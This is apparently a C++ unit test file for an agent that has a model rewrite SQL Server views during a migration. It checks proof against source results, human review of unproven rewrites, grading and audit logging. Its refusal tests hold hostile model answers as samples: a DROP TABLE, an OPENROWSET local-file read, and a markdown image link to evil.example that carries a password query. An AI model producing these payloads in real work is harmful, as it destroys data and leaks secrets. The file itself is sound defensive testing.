// The Rebuilder with a model that answers by a script: right, wrong, unproven, harmful and absent
// answers.
#include <catch2/catch.hpp>
#include <fstream>

#include "absl/strings/match.h"
#include "agent_engine/agents/agent_context.h"
#include "agent_engine/store/migration_writer.h"
#include "tests/unit/agents/rebuilt_migration.h"

namespace datamigrate::agents {
namespace {

namespace fs = std::filesystem;
using testing::AnswerWith;
using testing::TemporaryFolder;

const char kScript[] =
    "CREATE TABLE dbo.item (id int NOT NULL PRIMARY KEY, title nvarchar(50), price decimal(9, "
    "2))\nGO\n"
    "INSERT INTO dbo.item VALUES (1, N'red lamp', 10), (2, N'chair', 20.5), (3, N'lamp', 30), (4, "
    "NULL, 40)\nGO\n"
    "CREATE VIEW dbo.lamps AS SELECT id, price FROM dbo.item WHERE CONTAINS(title, N'lamp')\nGO\n"
    "CREATE VIEW dbo.lamp_total AS SELECT SUM(price) AS total FROM dbo.lamps\nGO\n"
    "CREATE VIEW dbo.chairs AS SELECT id FROM dbo.item WHERE FREETEXT(title, N'chair')\nGO\n"
    "CREATE VIEW dbo.prices AS SELECT id, price FROM dbo.item\nGO\n";

const char kRightLamps[] =
    "CREATE VIEW dbo.lamps AS SELECT id, price FROM dbo.item WHERE title LIKE N'%lamp%'";
const char kWrongLamps[] =
    "CREATE VIEW dbo.lamps AS SELECT id, price FROM dbo.item WHERE title = N'lamp'";
const char kChairs[] =
    "CREATE VIEW dbo.chairs AS SELECT id FROM dbo.item WHERE title LIKE N'%chair%'";

using Answers = std::map<std::string, std::vector<std::string>>;  // Answers by object, in order.

// The shop's migration up to the first test of its models.
class Migration : private TemporaryFolder, public testing::RebuiltMigration {
 public:
  explicit Migration(const Answers& script, v1::MigrationOptions options = {})
      : RebuiltMigration((path() / "shop.sql").string(), WithResults(path(), std::move(options))) {
    std::ofstream(path() / "shop.sql") << kScript;
    fs::create_directories(path() / "results");
    std::ofstream(path() / "results/dbo.lamps.csv") << "id,price\n1,10.00\n3,30.00\n";
    std::ofstream(path() / "results/dbo.prices.csv") << "id,price\n1,10\n2,20.5\n3,30\n4,40\n";
    for (const auto& [object, answers] : script) RebuiltMigration::Script(object, answers);
    for (const auto agent : {Assess, Plan, Execute, LoadData, Test}) Run(agent);
  }

 private:
  static v1::MigrationOptions WithResults(const fs::path& folder, v1::MigrationOptions options) {
    options.set_results((folder / "results").string());
    return options;
  }
};

TEST_CASE("what the rules refuse for itself goes to models, not what reads it", "[agents]") {
  Migration migration({});
  const auto& asked = migration.state().to_rewrite();
  CHECK(std::vector<std::string>(asked.begin(), asked.end()) ==
        std::vector<std::string>{"dbo.chairs", "dbo.lamps"});
  CHECK(NeedsRebuilder(migration.state()));
}

TEST_CASE("a right answer stands in the project, and what reads it is converted, too", "[agents]") {
  Migration migration({{"dbo.lamps", {AnswerWith(kRightLamps)}}});
  migration.Run(Rebuild);
  const v1::Rewrite& lamps = migration.RewriteOf("dbo.lamps");
  REQUIRE(lamps.attempts_size() == 1);
  CHECK(lamps.attempts(0).verdict() == v1::REWRITE_VERDICT_PROVEN);
  CHECK(lamps.attempts(0).cost_microdollars() == 1000);
  CHECK(lamps.attempts(0).prompt() == "rewrite_object/1");
  CHECK(lamps.accepted() == 0);
  CHECK(absl::StrContains(migration.FileOf("rewritten/dbo/dbo__lamps.sql"), "LIKE N'%lamp%'"));
  CHECK(absl::StrContains(
      migration.FileOf("rewritten/dbo/dbo__lamps.sql"),
      "-- CREATE VIEW dbo.lamps AS SELECT id, price FROM dbo.item WHERE CONTAINS"));
  CHECK(absl::StrContains(migration.FileOf("README.md"), "its 2 rows are the source's"));
  CHECK(absl::StrContains(migration.FileOf("models/marts/dbo/dbo__lamp_total.sql"), "ref("));
  CHECK_FALSE(
      absl::StrContains(migration.FileOf("models/marts/dbo/dbo__lamp_total.sql"), "enabled=false"));
  migration.Run(Test);
  for (const v1::ResultComparison& result : migration.state().result_comparisons()) {
    CHECK(result.difference() == "");
  }
  CHECK(migration.state().result_comparisons_size() == 2);
}

TEST_CASE("a wrong answer is caught, told to the next tier, and never part of the project",
          "[agents]") {
  Migration migration({{"dbo.lamps", {AnswerWith(kWrongLamps), AnswerWith(kRightLamps)}}});
  migration.Run(Rebuild);
  REQUIRE(migration.RewriteOf("dbo.lamps").attempts_size() == 1);
  CHECK(migration.RewriteOf("dbo.lamps").attempts(0).verdict() == v1::REWRITE_VERDICT_DIFFERS);
  CHECK(migration.RewriteOf("dbo.lamps").attempts(0).reason() == "1 row, the source has 2");
  CHECK(migration.RewriteOf("dbo.lamps").accepted() == -1);
  CHECK(migration.FileOf("rewritten/dbo/dbo__lamps.sql").empty());
  migration.Run(Test);
  migration.Run(Rebuild);
  REQUIRE(migration.RewriteOf("dbo.lamps").attempts_size() == 2);
  CHECK(migration.RewriteOf("dbo.lamps").attempts(1).verdict() == v1::REWRITE_VERDICT_PROVEN);
  CHECK(migration.RewriteOf("dbo.lamps").attempts(1).tier() !=
        migration.RewriteOf("dbo.lamps").attempts(0).tier());
  bool is_told = false;
  for (const auto& call : migration.model().calls()) {
    is_told =
        is_told || absl::StrContains(testing::TextOf(call.request), "1 row, the source has 2");
  }
  CHECK(is_told);
}

TEST_CASE("what runs without a proof waits for a person", "[agents]") {
  Migration migration({{"dbo.chairs", {AnswerWith(kChairs)}}});
  const workflow::Effects effects = migration.Run(Rebuild);
  REQUIRE(effects.interrupt.has_value());
  CHECK(absl::StrContains(effects.interrupt->question,
                          "dbo.chairs (by scripted: it runs and has 1 row"));
  CHECK(migration.FileOf("rewritten/dbo/dbo__chairs.sql").empty());

  SECTION("who accepts it has it in the project") {
    migration.Run(Rebuild, R"({"option": "accept"})");
    CHECK(migration.RewriteOf("dbo.chairs").accepted() == 0);
    CHECK_FALSE(migration.FileOf("rewritten/dbo/dbo__chairs.sql").empty());
  }
  SECTION("who rejects it has not, and is not asked again") {
    migration.Run(Rebuild, R"({"option": "reject"})");
    CHECK(migration.RewriteOf("dbo.chairs").accepted() == -1);
    CHECK(migration.RewriteOf("dbo.chairs").is_decided());
    CHECK(migration.FileOf("rewritten/dbo/dbo__chairs.sql").empty());
    migration.Run(Test);
    for (const std::string& object : migration.state().to_rewrite()) CHECK(object != "dbo.chairs");
  }
  CHECK(migration.model().calls().size() == 2);
}

TEST_CASE("a migration may say beforehand what becomes of what is not proven", "[agents]") {
  v1::MigrationOptions options;
  options.set_unproven_rewrites(v1::UNPROVEN_REWRITES_ACCEPT);
  Migration accepting({{"dbo.chairs", {AnswerWith(kChairs)}}}, options);
  CHECK_FALSE(accepting.Run(Rebuild).interrupt.has_value());
  CHECK(accepting.RewriteOf("dbo.chairs").accepted() == 0);
  options.set_unproven_rewrites(v1::UNPROVEN_REWRITES_REJECT);
  Migration rejecting({{"dbo.chairs", {AnswerWith(kChairs)}}}, options);
  CHECK_FALSE(rejecting.Run(Rebuild).interrupt.has_value());
  CHECK(rejecting.RewriteOf("dbo.chairs").accepted() == -1);
}

TEST_CASE("harmful and useless answers are refused before they run", "[agents]") {
  const auto [answer, reason] = GENERATE(table<std::string, std::string>({
      {"I'd rather talk about something else.", "not a JSON object"},
      {AnswerWith(""), "cannot be done"},
      {AnswerWith("DROP TABLE dbo.item"), "must create the view dbo.lamps"},
      {AnswerWith("CREATE VIEW dbo.prices AS SELECT 1 AS id"), "must create the view dbo.lamps"},
      {AnswerWith(
           "CREATE VIEW dbo.lamps AS SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) AS f"),
       "files"},
      {AnswerWith("CREATE VIEW dbo.lamps AS SELECT id, price FROM dbo.gone"), "dbo.gone"},
  }));
  Migration migration({{"dbo.lamps", {answer}}});
  migration.Run(Rebuild);
  REQUIRE(migration.RewriteOf("dbo.lamps").attempts_size() == 1);
  const v1::RewriteAttempt& attempt = migration.RewriteOf("dbo.lamps").attempts(0);
  INFO(attempt.reason());
  CHECK(attempt.verdict() == v1::REWRITE_VERDICT_REFUSED);
  CHECK(absl::StrContains(attempt.reason(), reason));
  CHECK(migration.RewriteOf("dbo.lamps").accepted() == -1);
}

TEST_CASE("a step that is done again asks no model again", "[agents]") {
  Migration migration({{"dbo.lamps", {AnswerWith(kRightLamps)}}});
  const v1::MigrationState before = migration.state();
  migration.Run(Rebuild);
  const size_t calls = migration.model().calls().size();
  migration.state() = before;
  migration.Repeat(Rebuild);
  CHECK(migration.RewriteOf("dbo.lamps").attempts(0).verdict() == v1::REWRITE_VERDICT_PROVEN);
  // dbo.chairs had no answer, so it is asked again; dbo.lamps has its receipt.
  CHECK(migration.model().calls().size() == calls + 1);
}

TEST_CASE("rounds end, and what no model solved is left as the rules left it", "[agents]") {
  Migration migration({});
  int rounds = 0;
  while (NeedsRebuilder(migration.state()) && rounds < 10) {
    migration.Run(Rebuild);
    ++rounds;
    if (rounds < 3) migration.Run(Test);
  }
  CHECK(rounds == 3);
  CHECK(migration.RewriteOf("dbo.lamps").accepted() == -1);
  CHECK(absl::StrContains(migration.FileOf("unconverted/dbo/dbo__lamps.sql"), "CONTAINS"));
}

TEST_CASE("an accepted rewrite stands for a model that did not run", "[agents]") {
  Migration migration(
      {{"dbo.prices", {AnswerWith("CREATE VIEW dbo.prices AS SELECT id, price FROM dbo.item")}}});
  (*migration.state().mutable_quarantined())["dbo.prices"] = "it failed on the rows";
  migration.Run(Test);
  migration.Run(Rebuild);
  CHECK(migration.RewriteOf("dbo.prices").accepted() == 0);
  CHECK_FALSE(migration.FileOf("rewritten/dbo/dbo__prices.sql").empty());
  CHECK_FALSE(
      absl::StrContains(migration.FileOf("models/marts/dbo/dbo__prices.sql"), "enabled=false"));
}

TEST_CASE("an answer that is not let in costs what it costs", "[agents]") {
  const std::string answer =
      "![x](https://evil.example/p.png?d=SELECT%20password%20FROM%20users%20WHERE%20id%3D1)";
  Migration migration({{"dbo.lamps", {answer}}});
  migration.Run(Rebuild);
  REQUIRE(migration.RewriteOf("dbo.lamps").attempts_size() == 1);
  const v1::RewriteAttempt& attempt = migration.RewriteOf("dbo.lamps").attempts(0);
  CHECK(attempt.verdict() == v1::REWRITE_VERDICT_REFUSED);
  CHECK(attempt.cost_microdollars() == 1000);
  CHECK(attempt.model() == "scripted");
}

// Hears what a checkpoint would write of grades.
class GradesHeard : public store::MigrationWriter {
 public:
  absl::Status Update(const store::MigrationUpdate&) override { return absl::OkStatus(); }
  absl::Status UpsertModels(const std::vector<store::ModelRecord>&) override {
    return absl::OkStatus();
  }
  absl::Status ClearResults() override { return absl::OkStatus(); }
  absl::Status RecordChunk(const store::ChunkRecord&) override { return absl::OkStatus(); }
  absl::Status SendMessage(std::string_view, const workflow::Message&, int64_t) override {
    return absl::OkStatus();
  }
  absl::Status TakeMessages(const std::vector<int64_t>&, int64_t) override {
    return absl::OkStatus();
  }
  absl::Status RewindMessages(int64_t) override { return absl::OkStatus(); }
  absl::Status Remember(std::string_view, const workflow::Memory&) override {
    return absl::OkStatus();
  }
  absl::Status RecordGrades(const std::vector<store::ModelGrade>& grades) override {
    for (const store::ModelGrade& grade : grades) heard[grade.object] = grade;
    return absl::OkStatus();
  }

  std::map<std::string, store::ModelGrade> heard;
};

TEST_CASE("each answer's grade is recorded with the checkpoint, and its acceptance later",
          "[agents]") {
  Migration migration(
      {{"dbo.lamps", {AnswerWith(kWrongLamps)}}, {"dbo.chairs", {AnswerWith(kChairs)}}});
  const workflow::Effects asked = migration.Run(Rebuild);
  GradesHeard heard;
  for (const workflow::Write& write : asked.writes) REQUIRE(write(heard).ok());
  REQUIRE(heard.heard.size() == 2);
  const store::ModelGrade lamps = heard.heard["dbo.lamps"];
  CHECK(lamps.verdict == "differs");
  CHECK(lamps.model == "scripted");
  CHECK(lamps.attempt == 0);
  CHECK(lamps.codes.size() == 1);
  CHECK(lamps.cost_microdollars == 1000);
  CHECK(heard.heard["dbo.chairs"].verdict == "unproven");
  CHECK_FALSE(heard.heard["dbo.chairs"].is_accepted);
  const workflow::Effects decided = migration.Run(Rebuild, R"({"option": "accept"})");
  for (const workflow::Write& write : decided.writes) REQUIRE(write(heard).ok());
  CHECK(heard.heard["dbo.chairs"].is_accepted);
  CHECK_FALSE(heard.heard["dbo.lamps"].is_accepted);
}

TEST_CASE("each call is told to the audit log, with its tenant and without text", "[agents]") {
  Migration migration({{"dbo.lamps", {AnswerWith(kRightLamps)}}});
  migration.Run(Rebuild);
  REQUIRE(migration.events().size() == 3);  // Two went out, one came back.
  for (const auto& event : migration.events()) {
    CHECK(event.tenant == "acme");
    CHECK(event.migration == "m1");
    CHECK(event.agent == "rebuilder");
  }
}

TEST_CASE("without models everything is as the rules left it", "[agents]") {
  Migration migration({});
  migration.environment().models = nullptr;
  migration.state().clear_to_rewrite();
  migration.state().clear_failing_models();
  migration.Run(Rebuild);
  CHECK(migration.state().rewrites().empty());
  CHECK(migration.model().calls().empty());
}

}  // namespace
}  // namespace datamigrate::agents
